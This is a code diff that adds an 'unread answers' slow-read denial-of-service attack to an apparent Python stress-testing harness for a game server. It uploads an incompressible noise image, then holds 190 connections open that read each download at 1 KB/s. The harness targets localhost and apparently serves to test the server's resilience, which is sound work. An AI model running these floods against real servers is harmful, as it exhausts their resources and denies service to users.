@@ -12,6 +12,7 @@ import itertools
 import json
 import lzma
 import random
+import socket
 import sys
 import time
 from collections import Counter
@@ -37,6 +38,9 @@ PING: Final = 4
 REPLAY_BYTES: Final = 49 << 20
 SCANS: Final = 50  # with the ten of the original picture just below the server's limit
 PICTURE_SIDE: Final = 4096
+NOISE_SIDE: Final = 1_100  # of a picture of 3.6 MB
+UNREAD_BUFFER_BYTES: Final = 4_096
+SLOW_READ_BYTES: Final = 1_024
 
 
 class Attacker(msgspec.Struct, frozen=True):
@@ -345,6 +349,72 @@ async def event_streams(attack: Attack, go: Go) -> None:
     await asyncio.gather(*(listener() for _ in range(attack.connections(100))))
 
 
+async def unread_answers(attack: Attack, go: Go) -> None:
+    """Download a picture of several MB on 190 connections, and read 1 KB/s of each answer."""
+    await attack.sessions()  # a screenshot requires a session
+    name = await upload_noise(attack)
+    raw = request("GET", OSU, f"/ss/{name}", attack.plan.address)
+
+    async def download() -> str:
+        # The system of the attacker must not accept what the attacker does not read.
+        connection = socket.socket()
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, UNREAD_BUFFER_BYTES)
+        connection.setblocking(False)
+        await asyncio.get_running_loop().sock_connect(connection, ("127.0.0.1", attack.plan.port))
+        reader, writer = await asyncio.open_connection(sock=connection, limit=UNREAD_BUFFER_BYTES)
+        try:
+            writer.write(raw)
+            async with asyncio.timeout(attack.plan.seconds + 5.0):
+                status = (await reader.readexactly(12))[9:].decode()
+            if status == "200":
+                await read_slowly(attack, reader)
+            return status
+        finally:
+            writer.close()
+
+    async def downloader() -> None:
+        while not attack.over:
+            try:
+                attack.answers[await download()] += 1
+            except (OSError, TimeoutError, asyncio.IncompleteReadError) as error:
+                attack.answers[type(error).__name__] += 1
+            await asyncio.sleep(REFUSED_S)
+
+    await go()
+    await asyncio.gather(*(downloader() for _ in range(attack.connections(190))))
+
+
+async def read_slowly(attack: Attack, reader: asyncio.StreamReader) -> None:
+    """Read 1 KB/s until the server closes the connection or the attack is over."""
+    began = time.perf_counter()
+    for second in itertools.count(1):
+        if attack.over or not await reader.read(SLOW_READ_BYTES):
+            return
+        await asyncio.sleep(max(0.0, began + second - time.perf_counter()))
+
+
+async def upload_noise(attack: Attack) -> str:
+    """Upload a screenshot that does not compress, and return its name."""
+    from PIL import Image
+
+    out = io.BytesIO()
+    noise = random.Random(1).randbytes(3 * NOISE_SIDE**2)
+    Image.frombytes("RGB", (NOISE_SIDE, NOISE_SIDE), noise).save(out, "PNG", compress_level=1)
+    author = attack.plan.attackers[0].name
+    parts: list[tuple[str, str | None, bytes]] = [
+        ("u", None, author.encode()),
+        ("p", None, password_md5().encode()),
+        ("ss", "ss", out.getvalue()),
+    ]
+    body, kind = multipart(parts)
+    connections = Connections(attack.plan.port)
+    raw = request("POST", OSU, "/web/osu-screenshot.php", attack.plan.address, {"Content-Type": kind}, body)
+    answer = await connections.ask(raw)
+    connections.close()
+    assert answer.status == 200, answer
+    return answer.body.decode()
+
+
 ATTACKS: Final[dict[str, Callable[[Attack, Go], Awaitable[None]]]] = {
     "wrong passwords": wrong_passwords,
     "slow reads": slow_reads,
@@ -355,6 +425,7 @@ ATTACKS: Final[dict[str, Callable[[Attack, Go], Awaitable[None]]]] = {
     "pictures": pictures,
     "replays": replays,
     "event streams": event_streams,
+    "unread answers": unread_answers,
 }
 
 
